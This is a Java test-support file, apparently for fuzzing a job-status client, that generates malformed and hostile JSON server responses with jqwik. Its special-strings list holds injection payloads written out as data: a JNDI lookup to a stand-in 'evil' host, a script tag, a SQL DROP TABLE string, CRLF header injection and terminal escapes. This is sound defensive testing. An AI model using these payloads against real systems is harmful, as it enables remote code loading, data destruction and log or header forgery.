package dev.jobstatus.reliability;

import dev.jobstatus.reliability.JsonDoc.Arr;
import dev.jobstatus.reliability.JsonDoc.Bool;
import dev.jobstatus.reliability.JsonDoc.Deep;
import dev.jobstatus.reliability.JsonDoc.Member;
import dev.jobstatus.reliability.JsonDoc.Null;
import dev.jobstatus.reliability.JsonDoc.Num;
import dev.jobstatus.reliability.JsonDoc.Obj;
import dev.jobstatus.reliability.JsonDoc.Raw;
import dev.jobstatus.reliability.JsonDoc.Str;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import net.jqwik.api.Tuple.Tuple2;
import net.jqwik.api.arbitraries.ArbitraryDecorator;

/**
 * Generators of the bodies a hostile or broken server sends: a provider's real shape (a list of {@link Field}s) with
 * each field kept, left out, null, of the wrong type, a hostile string, a huge number or deeply nested, plus unknown
 * fields; and bodies that are not that shape at all (garbage). Strings echo the secrets the client holds.
 */
final class HostileJson {
    /** What a field holds, to choose a wrong type for it. */
    enum Type {
        STRING,
        NUMBER,
        BOOL,
        OBJECT,
        ARRAY,
        ANY
    }

    /**
     * A field of a provider's shape.
     *
     * @param name the field's name on the wire
     * @param type what it holds
     * @param good a value of the real shape (which may still hold hostile strings)
     */
    record Field(String name, Type type, Arbitrary<JsonDoc> good) {}

    static final List<String> HUGE_NUMBERS = List.of(
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775808",
            "-9223372036854775809",
            "18446744073709551616",
            "2147483647",
            "2147483648",
            "-2147483649",
            "1e309",
            "-1e309",
            "-0",
            "-0.0",
            "1e-400",
            "4.9e-324",
            "1.7976931348623157e308",
            "1E+2",
            "0.5",
            "-1",
            "0",
            "1" + "0".repeat(1200));

    private static final List<String> SPECIALS = List.of(
            "\u007f",
            "\u001b[2J\u001b[H",
            "\u001b]0;owned\u0007",
            "\u001b[31mRED\u001b[0m",
            "\u009b31m",
            "\u202e",
            "\u2066",
            "\u200f",
            "\u2028",
            "\u2029",
            "\ufeff",
            "\ud800",
            "\udfff",
            "\udc00\ud800",
            "\r\n",
            "\r\nX-Forged: yes",
            "\n2025-01-01 ERROR forged log line",
            "\"",
            "\\",
            "\\u0000",
            "%0d%0a",
            "${jndi:ldap://evil/x}",
            "<script>alert(1)</script>",
            "'; DROP TABLE jobs; --");

    private final List<String> secrets;
    private final Arbitrary<String> text;
    private final Arbitrary<JsonDoc> hostileString;
    private final List<Arbitrary<JsonDoc>> any = new ArrayList<>();
    private final Map<Type, Arbitrary<JsonDoc>> wrongType = new EnumMap<>(Type.class);

    /** @param secrets the secrets the client under test holds, echoed into generated strings */
    HostileJson(List<String> secrets) {
        this.secrets = List.copyOf(secrets);
        this.text = shared(makeText());
        this.hostileString = shared(
                Combinators.combine(text, Arbitraries.integers().between(0, 9)).as((s, n) -> new Str(s, n == 0)));
        for (int depth = 0; depth <= 3; depth++) {
            any.add(shared(makeAny(depth)));
        }
        for (Type type : Type.values()) {
            wrongType.put(type, shared(makeWrongType(type)));
        }
    }

    /**
     * {@return {@code arbitrary} behind an identity: jqwik memoizes generators by the arbitrary's hash code, which for
     * a tree of combinators walks the whole tree, and shared subtrees made each try's generation take seconds}
     */
    static <T> Arbitrary<T> shared(Arbitrary<T> arbitrary) {
        return new ArbitraryDecorator<>() {
            @Override
            protected Arbitrary<T> arbitrary() {
                return arbitrary;
            }
        };
    }

    /** Picks one of {@code choices} by weight. */
    @SafeVarargs
    static <T> Arbitrary<T> weighted(Tuple2<Integer, Arbitrary<T>>... choices) {
        return Arbitraries.frequencyOf(List.of(choices));
    }

    /** A weighted choice of {@code arbitrary}, for {@link #weighted}. */
    @SuppressWarnings("unchecked")
    static <T> Tuple2<Integer, Arbitrary<T>> w(int weight, Arbitrary<? extends T> arbitrary) {
        return Tuple.of(weight, (Arbitrary<T>) arbitrary);
    }

    /** Text as a server might send it in any field: plain mostly, else control characters, escapes, secrets, length. */
    Arbitrary<String> text() {
        return text;
    }

    private Arbitrary<String> makeText() {
        Arbitrary<String> piece = weighted(
                w(
                        30,
                        Arbitraries.of(
                                "Completed",
                                "job",
                                "Import 2025",
                                "a",
                                "",
                                " ",
                                "ünïcødé",
                                "漢字",
                                "😀",
                                "O'Brien",
                                "null")),
                w(10, Arbitraries.chars().range('\u0000', '\u001f').map(String::valueOf)),
                w(6, Arbitraries.chars().range('\u0080', '\u009f').map(String::valueOf)),
                w(15, Arbitraries.of(SPECIALS)),
                w(12, Arbitraries.of(secrets)),
                w(3, Arbitraries.of("A".repeat(70_000), "\u001b".repeat(5_000), "é".repeat(40_000))),
                w(10, Arbitraries.strings().all().ofMaxLength(12)));
        return piece.list().ofMinSize(1).ofMaxSize(4).map(parts -> String.join("", parts));
    }

    /** A string value of hostile {@link #text()}, now and then with its control characters left raw (invalid JSON). */
    Arbitrary<JsonDoc> hostileString() {
        return hostileString;
    }

    /** A string field: one of {@code usual} mostly, hostile text otherwise. */
    Field string(String name, String... usual) {
        Arbitrary<JsonDoc> plain = usual.length == 0
                ? Arbitraries.strings().alpha().numeric().ofMaxLength(16).map(s -> new Str(s, false))
                : Arbitraries.of(usual).map(s -> new Str(s, false));
        return new Field(name, Type.STRING, shared(weighted(w(7, plain), w(3, hostileString()))));
    }

    /** A number field, usually a small count or id. */
    static Field number(String name) {
        return new Field(
                name,
                Type.NUMBER,
                weighted(
                        w(97, Arbitraries.longs().between(0, 1_000_000).map(n -> new Num(Long.toString(n)))),
                        w(3, Arbitraries.of(HUGE_NUMBERS).map(Num::new))));
    }

    /** A boolean field. */
    static Field bool(String name) {
        return new Field(name, Type.BOOL, Arbitraries.of(true, false).map(Bool::new));
    }

    /** A timestamp field: ISO-8601 with or without a zone mostly, else out of range, impossible or not a date. */
    Field timestamp(String name) {
        Arbitrary<JsonDoc> usual = Arbitraries.of(
                        "2025-01-15T10:30:00Z",
                        "2015-07-12T18:14:58",
                        "2025-01-15T10:30:00.123+02:00",
                        "2015-07-12T18:14:58.1234567",
                        "2025-01-15T10:30:00.000Z")
                .map(s -> new Str(s, false));
        Arbitrary<JsonDoc> odd = Arbitraries.of(
                        "+999999999-12-31T23:59:59Z",
                        "-999999999-01-01T00:00:00Z",
                        "2025-02-30T00:00:00",
                        "2025-13-01T00:00:00Z",
                        "0000-00-00T00:00:00",
                        "9999-12-31T23:59:60Z",
                        "2025-01-15T10:30:00+25:00",
                        "2025-01-15",
                        "10:30",
                        "yesterday",
                        "2025-01-15T10:30:00Z\u0000",
                        "1736937000")
                .map(s -> new Str(s, false));
        Arbitrary<JsonDoc> epoch =
                Arbitraries.of("1736937000000", "1e20", "-1", "1736937000.5").map(Num::new);
        return new Field(
                name, Type.STRING, shared(weighted(w(30, usual), w(2, odd), w(1, epoch), w(1, hostileString()))));
    }

    /** An object field of {@code fields}. */
    Field object(String name, List<Field> fields) {
        return new Field(name, Type.OBJECT, object(fields));
    }

    /** An array field of up to four {@code element}s. */
    static Field array(String name, Arbitrary<JsonDoc> element) {
        return new Field(name, Type.ARRAY, element.list().ofMaxSize(4).map(Arr::new));
    }

    /** A field of free-form JSON. */
    Field free(String name) {
        return new Field(name, Type.ANY, any(3));
    }

    /**
     * An object of {@code fields}: every field of the real shape (its strings still hostile), so that values come
     * through; hardly mutated; mildly (most fields as they should be); or wildly.
     */
    Arbitrary<JsonDoc> object(List<Field> fields) {
        return shared(weighted(
                w(3, object(fields, 100)),
                w(1, object(fields, 99)),
                w(2, object(fields, 90)),
                w(1, object(fields, 45))));
    }

    private Arbitrary<JsonDoc> object(List<Field> fields, int goodWeight) {
        List<Arbitrary<Optional<Member>>> members = new ArrayList<>();
        for (Field field : fields) {
            members.add(member(field, goodWeight));
        }
        Arbitrary<List<Member>> unknown = unknownMember(fields).list().ofMaxSize(3);
        return Combinators.combine(Combinators.combine(members).as(list -> list), unknown, Arbitraries.of(true, false))
                .as((known, extra, extraFirst) -> {
                    List<Member> all = new ArrayList<>();
                    if (extraFirst) {
                        all.addAll(extra);
                    }
                    known.forEach(m -> m.ifPresent(all::add));
                    if (!extraFirst) {
                        all.addAll(extra);
                    }
                    return new Obj(all);
                });
    }

    /** One field as sent: as it should be, or left out, null, wrongly typed, hostile, huge, deep, or misspelled. */
    private Arbitrary<Optional<Member>> member(Field field, int goodWeight) {
        Arbitrary<JsonDoc> mutated = weighted(
                w(8, Arbitraries.just(new Null())),
                w(10, wrongType(field.type())),
                w(6, hostileString()),
                w(4, Arbitraries.of(HUGE_NUMBERS).map(Num::new)),
                w(3, deep(field.good())));
        Arbitrary<Optional<Member>> kept = field.good().map(v -> Optional.of(new Member(field.name(), v)));
        if (goodWeight >= 100) {
            return kept;
        }
        Arbitrary<Optional<Member>> changed = mutated.map(v -> Optional.of(new Member(field.name(), v)));
        Arbitrary<Optional<Member>> misspelled = field.good()
                .map(v -> Optional.of(new Member(
                        field.name().toLowerCase(Locale.ROOT).equals(field.name())
                                ? field.name().toUpperCase(Locale.ROOT)
                                : field.name().toLowerCase(Locale.ROOT),
                        v)));
        int bad = 100 - goodWeight;
        return shared(weighted(
                w(goodWeight, kept),
                w(Math.max(1, bad * 3 / 10), Arbitraries.just(Optional.empty())),
                w(Math.max(1, bad * 6 / 10), changed),
                w(Math.max(1, bad / 10), misspelled)));
    }

    /** A value of another type than {@code type}. */
    Arbitrary<JsonDoc> wrongType(Type type) {
        return wrongType.get(type);
    }

    private Arbitrary<JsonDoc> makeWrongType(Type type) {
        Arbitrary<JsonDoc> numbers = Arbitraries.of("42", "-7", "1.5", "0").map(Num::new);
        Arbitrary<JsonDoc> numericStrings =
                Arbitraries.of("42", " 42 ", "4e2", "abc", "", "0x10", "NaN").map(s -> new Str(s, false));
        Arbitrary<JsonDoc> bools = Arbitraries.of(true, false).map(Bool::new);
        Arbitrary<JsonDoc> arrays = weighted(
                w(2, Arbitraries.just(new Arr(List.of()))),
                w(1, any(1).list().ofMaxSize(3).map(Arr::new)));
        Arbitrary<JsonDoc> objects = weighted(
                w(2, Arbitraries.just(new Obj(List.of()))),
                w(1, any(1).map(v -> new Obj(List.of(new Member("a", v))))));
        return switch (type) {
            case STRING -> weighted(w(1, numbers), w(1, bools), w(1, arrays), w(1, objects));
            case NUMBER -> weighted(w(2, numericStrings), w(1, bools), w(1, arrays), w(1, objects));
            case BOOL ->
                weighted(
                        w(1, Arbitraries.of("true", "yes", "").map(s -> new Str(s, false))),
                        w(1, numbers),
                        w(1, arrays),
                        w(1, objects));
            case OBJECT -> weighted(w(1, hostileString()), w(1, numbers), w(1, bools), w(1, arrays));
            case ARRAY -> weighted(w(1, objects), w(1, hostileString()), w(1, numbers), w(1, bools));
            case ANY -> any(2);
        };
    }

    /** {@code core} inside arrays or objects, from a few levels to past any parser's limit. */
    static Arbitrary<JsonDoc> deep(Arbitrary<JsonDoc> core) {
        return Combinators.combine(
                        Arbitraries.of(3, 100, 499, 501, 999, 1001, 2000, 5000), Arbitraries.of(true, false), core)
                .as(Deep::new);
    }

    /** Free-form JSON up to {@code depth} levels deep. */
    Arbitrary<JsonDoc> any(int depth) {
        return any.get(Math.max(0, Math.min(depth, any.size() - 1)));
    }

    private Arbitrary<JsonDoc> makeAny(int depth) {
        Arbitrary<JsonDoc> scalar = weighted(
                w(3, hostileString()),
                w(2, Arbitraries.of(HUGE_NUMBERS).map(Num::new)),
                w(1, Arbitraries.of(true, false).map(Bool::new)),
                w(1, Arbitraries.just(new Null())));
        if (depth <= 0) {
            return scalar;
        }
        Arbitrary<JsonDoc> inner = any.get(depth - 1);
        Arbitrary<JsonDoc> object = Combinators.combine(text(), inner)
                .as((k, v) -> new Member(k, v))
                .list()
                .ofMaxSize(3)
                .map(Obj::new);
        return weighted(w(4, scalar), w(1, inner.list().ofMaxSize(3).map(Arr::new)), w(1, object));
    }

    /** A field the shape does not have: a new name, a hostile one, or a known name a second time. */
    private Arbitrary<Member> unknownMember(List<Field> fields) {
        List<String> known = fields.stream().map(Field::name).toList();
        Arbitrary<String> names = weighted(
                w(4, Arbitraries.of("extra", "Extra", "__proto__", "", "meta", "data", "v2")),
                w(2, text()),
                w(2, known.isEmpty() ? Arbitraries.just("x") : Arbitraries.of(known)));
        return Combinators.combine(names, any(2)).as(Member::new);
    }

    /** Bodies that are not the expected shape: empty, not JSON, HTML, truncated, scalars, nested past any limit. */
    static Arbitrary<String> garbage() {
        return Arbitraries.of(
                "",
                " ",
                "\n",
                "null",
                "true",
                "0",
                "-0",
                "1e309",
                "\"\"",
                "\"just a string\"",
                "[]",
                "[{}]",
                "[null]",
                "{",
                "}",
                "{\"a\":",
                "{}{}",
                "{} trailing",
                "{\"a\":1,}",
                "{'single':'quotes'}",
                "/* c */ {}",
                "NaN",
                "Infinity",
                "\ufeff{}",
                "<html><body><h1>502 Bad Gateway</h1></body></html>",
                "<!DOCTYPE html><title>Sign in</title>",
                "Internal Server Error",
                "{\"a\":\"\u0000\u001b\n\"}",
                "[".repeat(2000) + "]".repeat(2000),
                "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
                "[".repeat(100_000),
                "\"" + "\\u".repeat(10),
                "{\"a\":\"\\ud800\"}",
                "{\"\\u0000\":1}");
    }

    /** {@code structured} as it should be mostly, else cut short, or garbage. */
    static Arbitrary<String> body(Arbitrary<JsonDoc> structured) {
        Arbitrary<String> truncated = Combinators.combine(
                        structured, Arbitraries.doubles().between(0, 1))
                .as((doc, cut) -> {
                    String text = doc.text();
                    return text.substring(0, (int) (text.length() * cut));
                });
        return weighted(w(78, structured.map(JsonDoc::text)), w(6, truncated), w(16, garbage()));
    }

    /** Writes {@code doc} as {@code application/x-www-form-urlencoded} when it is an object, else as JSON text. */
    static String form(JsonDoc doc) {
        if (!(doc instanceof Obj obj)) {
            return doc.text();
        }
        StringBuilder out = new StringBuilder();
        for (Member m : obj.members()) {
            if (out.length() > 0) {
                out.append('&');
            }
            String value = m.value() instanceof Str s
                    ? s.value()
                    : m.value() instanceof Raw r ? r.text() : m.value().text();
            out.append(URLEncoder.encode(m.name(), StandardCharsets.UTF_8))
                    .append('=')
                    .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
        }
        return out.toString();
    }
}
